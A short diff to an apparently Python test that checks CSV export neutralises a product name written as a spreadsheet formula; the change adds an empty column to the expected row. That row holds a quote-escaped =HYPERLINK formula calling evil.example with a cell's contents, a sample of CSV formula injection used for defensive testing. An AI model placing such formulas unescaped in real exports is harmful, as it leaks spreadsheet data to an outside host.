@@ -51,7 +51,7 @@ def test_stamp_csv_neutralises_a_product_name_that_is_a_formula():
     stamp_csv(labels=[label], out=out)
     rows = out.getvalue().decode("utf-8-sig").split("\r\n")
     assert rows[1] == (
-        "AAAAAAAAAAAAA,HTTPS://OCOP.EXAMPLE/S/AAAAAAAAAAAAA,"
+        "AAAAAAAAAAAAA,HTTPS://OCOP.EXAMPLE/S/AAAAAAAAAAAAA,,"
         '"\'=HYPERLINK(""http://evil.example/?""&A1,""Trà"")",4'
     )
 
